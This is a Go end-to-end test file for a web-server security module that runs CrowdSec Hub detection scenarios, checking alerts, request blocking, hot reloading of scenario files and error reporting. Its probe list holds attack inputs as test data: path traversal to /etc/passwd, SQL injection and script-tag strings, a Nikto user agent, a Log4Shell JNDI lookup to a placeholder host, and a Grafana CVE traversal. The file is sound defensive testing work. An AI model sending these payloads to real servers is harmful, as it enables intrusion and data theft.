package e2e

import (
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/rampart-edge/rampart/event"
	"github.com/rampart-edge/rampart/internal/testkit"
)

// hubSite is a node whose content is that of the Hub. {hub} and {data} stand for its
// folders, {rampart} for more options.
const hubSite = `{
	admin {admin}
	servers {
		trusted_proxies static 127.0.0.1/32
		trusted_proxies_strict
	}
	rampart {
		data_dir {state}
		hub {hub} {
			data {data}
		}
		{rampart}
	}
}
http://127.0.0.1:{port} {
	rampart
	basic_auth /private* {
		someone $2a$04$MEYgVYOc7LYI3jwNPmGZgOHOAXapqxFjFgrQRxaEG7vwsEEaFl8bG
	}
	respond /forbidden* 403
	respond /missing* 404
	respond /wp-* 404
	respond "hello" 200
}
`

func hubCaddyfile(hub, data, more string) string {
	return strings.NewReplacer("{hub}", hub, "{data}", data, "{rampart}", more).Replace(hubSite)
}

// probe is one way of probing a site.
type probe struct {
	scenario string
	requests int                // until the alert
	path     func(i int) string // of the i-th request
	header   []string           // of all
	inline   bool               // the overflowing request itself is refused, not the one after it
}

func same(path string) func(int) string { return func(int) string { return path } }

func numbered(format string) func(int) string {
	return func(i int) string { return fmt.Sprintf(format, i) }
}

// probes are what crowdsecurity/base-http-scenarios is there for. How many requests
// it takes follows from the capacity of each scenario.
func probes() []probe {
	return []probe{
		{scenario: "crowdsecurity/http-probing", requests: 11, path: numbered("/missing/%d")},
		{scenario: "crowdsecurity/http-bad-user-agent", requests: 2, path: same("/"), header: []string{"User-Agent", "Nikto/2.1.6"}, inline: true},
		{scenario: "crowdsecurity/http-sensitive-files", requests: 5, path: numbered("/backup%d.sql"), inline: true},
		{scenario: "crowdsecurity/http-path-traversal-probing", requests: 4, path: numbered("/x?f%d=../../etc/passwd"), inline: true},
		{scenario: "crowdsecurity/http-sqli-probbing-detection", requests: 11, path: numbered("/x?id=%d%%20union%%20select%%20password"), inline: true},
		{scenario: "crowdsecurity/http-xss-probbing", requests: 6, path: numbered("/x?q=%d<script>"), inline: true},
		{scenario: "crowdsecurity/http-generic-bf", requests: 6, path: same("/private")},
		{scenario: "crowdsecurity/http-wordpress-scan", requests: 4, path: numbered("/wp-content/plugins/p%d/readme.txt")},
		{scenario: "crowdsecurity/apache_log4j2_cve-2021-44228", requests: 1, path: same("/"), header: []string{"Referer", "${jndi:ldap://192.0.2.1/a}"}, inline: true},
		{scenario: "crowdsecurity/grafana-cve-2021-43798", requests: 1, path: same("/public/plugins/alertlist/../../../../../etc/passwd"), inline: true},
	}
}

// TestHubLive: the Hub's scenarios, unmodified, see live requests as they would see
// the lines of an access log, and those that need no response refuse the very
// request that overflows them. Visitors notice nothing.
func TestHubLive(t *testing.T) {
	hub, data := testkit.Shared(t, "hub"), testkit.Shared(t, "hub-data")
	n := startNode(t, hubCaddyfile(hub, data, "collection crowdsecurity/base-http-scenarios\nparser crowdsecurity/geoip-enrich"))
	if p := n.status().Problems; len(p) > 0 {
		t.Errorf("problems at the start: %q", p)
	}
	for i, p := range probes() {
		ip := fmt.Sprintf("203.0.113.%d", i+1)
		for j := range p.requests {
			a := n.send(ip, "GET", p.path(j), append([]string{"User-Agent", "Mozilla/5.0"}, p.header...)...)
			last := j == p.requests-1
			if refused := a.remediation() != ""; refused != (last && p.inline) {
				t.Errorf("%s: request %d of %d was answered %d (%s)", p.scenario, j+1, p.requests, a.status, a.remediation())
			}
		}
		var found []event.Alert
		until(t, "there is an alert of "+p.scenario, func() bool {
			found = n.alerts("scenario=" + p.scenario)
			return len(found) > 0
		})
		if len(found) != 1 || found[0].GetValue() != ip || found[0].EventsCount != int32(p.requests) {
			t.Errorf("%s: %d alerts, the first about %s with %d events", p.scenario, len(found), found[0].GetValue(), found[0].EventsCount)
		}
		if a := n.send(ip, "GET", "/"); a.remediation() == "" {
			t.Errorf("%s: after the alert %s still gets %d", p.scenario, ip, a.status)
		}
	}
	// What the enricher found out, and what the context has alerts say.
	for i := range 5 {
		n.send("1.2.3.4", "GET", fmt.Sprintf("/backup%d.sql", i))
	}
	list := n.alerts("value=1.2.3.4")
	if len(list) != 1 || list[0].Source.Cn != "AU" || !strings.Contains(list[0].Meta.Get("target_uri"), "/backup4.sql") ||
		list[0].Events[0].Meta.Get("IsoCode") != "AU" {
		t.Errorf("an alert about 1.2.3.4: %+v", list)
	}
	for i := range 30 {
		a := n.send("198.51.100.1", "GET", fmt.Sprintf("/page%d?q=what+is+selected", i%5), "User-Agent", "Mozilla/5.0", "Referer", "https://example.com/")
		if a.status != 200 {
			t.Fatalf("a visitor got %d at request %d", a.status, i)
		}
	}
	if list = n.alerts("value=198.51.100.1"); len(list) > 0 {
		t.Errorf("alerts about a visitor: %v", list)
	}
}

// copyHub copies what TestHubSwap changes: the collection's scenarios, with the
// index that names them.
func copyHub(t *testing.T, n *node, dir string) string {
	t.Helper()
	for _, part := range []string{".index.json", "collections/crowdsecurity", "scenarios/crowdsecurity", "scenarios/ltsich",
		"parsers/s02-enrich/crowdsecurity", "contexts/crowdsecurity"} {
		err := filepath.WalkDir(filepath.Join(dir, part), func(p string, e fs.DirEntry, err error) error {
			if err != nil || e.IsDir() {
				return err
			}
			text, err := os.ReadFile(p)
			rel, _ := filepath.Rel(dir, p)
			n.write(filepath.Join("hub", rel), string(text))
			return err
		})
		if err != nil {
			t.Fatal(err)
		}
	}
	return n.path("hub")
}

// TestHubSwap: a changed file of the hub is in force without a reload, and half-full
// buckets of all other scenarios live on; a broken one is told of, and the last good
// one stays.
func TestHubSwap(t *testing.T) {
	n := newNode(t)
	hub := copyHub(t, n, testkit.Shared(t, "hub"))
	n.write("Caddyfile", n.expand(hubCaddyfile(hub, testkit.Shared(t, "hub-data"), "collection crowdsecurity/base-http-scenarios")))
	n.start()
	const victim = "hub/scenarios/crowdsecurity/http-sensitive-files.yaml"
	was := n.read(victim)
	if !strings.Contains(was, "capacity: 4\n") {
		t.Fatalf("the Hub's file is another one:\n%s", was)
	}
	for i := range 10 { // one less than it takes
		n.send("203.0.113.1", "GET", fmt.Sprintf("/missing/%d", i))
	}
	n.send("203.0.113.2", "GET", "/backup.sql")

	n.write(victim, strings.Replace(was, "capacity: 4\n", "capacity: 1\n", 1))
	until(t, "the change is in force", func() bool { return n.status().Watch.Swaps == 1 })
	n.send("203.0.113.2", "GET", "/one.sql")
	if a := n.send("203.0.113.2", "GET", "/two.sql"); a.remediation() == "" {
		t.Errorf("the changed scenario let the second request pass: %d", a.status)
	}

	n.write(victim, strings.Replace(was, "capacity: 4\n", "capacity: many\n", 1))
	until(t, "the fault is told of", func() bool {
		s := n.status()
		return strings.Contains(s.Watch.Problem, "http-sensitive-files.yaml:") && len(s.Problems) == 1
	})
	if a := n.send("203.0.113.3", "GET", "/one.sql"); a.remediation() != "" {
		t.Errorf("the first request was refused: %s", a.remediation())
	}
	if a := n.send("203.0.113.3", "GET", "/two.sql"); a.remediation() == "" {
		t.Errorf("the last good scenario is gone: %d", a.status)
	}

	n.write(victim, was)
	until(t, "all is well again", func() bool { s := n.status(); return s.Watch.Swaps == 2 && len(s.Problems) == 0 })
	n.send("203.0.113.1", "GET", "/missing/11")
	until(t, "the bucket that was filled before all that overflows", func() bool {
		return len(n.alerts("scenario=crowdsecurity/http-probing&value=203.0.113.1")) == 1
	})
}

// TestHubBroken: a node starts without the items of the hub that do not work, and
// says so; what the operator wrote is an error.
func TestHubBroken(t *testing.T) {
	n := newNode(t)
	hub := copyHub(t, n, testkit.Shared(t, "hub"))
	n.write("hub/scenarios/crowdsecurity/http-probing.yaml", "type: leaky\nname: crowdsecurity/http-probing\nfilter: evt.Meta.x =\n")
	site := hubCaddyfile(hub, testkit.Shared(t, "hub-data"), "collection crowdsecurity/base-http-scenarios\nsimulation {\n except crowdsecurity/http-sensitive-files\n}")
	n.write("Caddyfile", n.expand(site))
	n.start()
	if s := n.status(); len(s.Problems) != 1 || !strings.Contains(s.Problems[0], "http-probing.yaml:") || s.Scenarios.Loaded < 40 {
		t.Errorf("%d scenarios, problems %q", s.Scenarios.Loaded, s.Problems)
	}
	for i := range 6 {
		if a := n.send("203.0.113.1", "GET", fmt.Sprintf("/backup%d.sql", i)); a.remediation() != "" {
			t.Errorf("a scenario that simulates refused request %d", i)
		}
	}
	list := n.alerts("scenario=crowdsecurity/http-sensitive-files")
	if len(list) != 1 || !list[0].Simulated || len(list[0].Decisions) != 1 || !list[0].Decisions[0].Simulated {
		t.Errorf("simulated: %+v", list)
	}
	err := n.reload(strings.Replace(site, "base-http-scenarios", "base-http-scenario", 1))
	if err == nil || !strings.Contains(err.Error(), "did you mean crowdsecurity/base-http-scenarios") {
		t.Errorf("a name that nothing has: %v", err)
	}
}
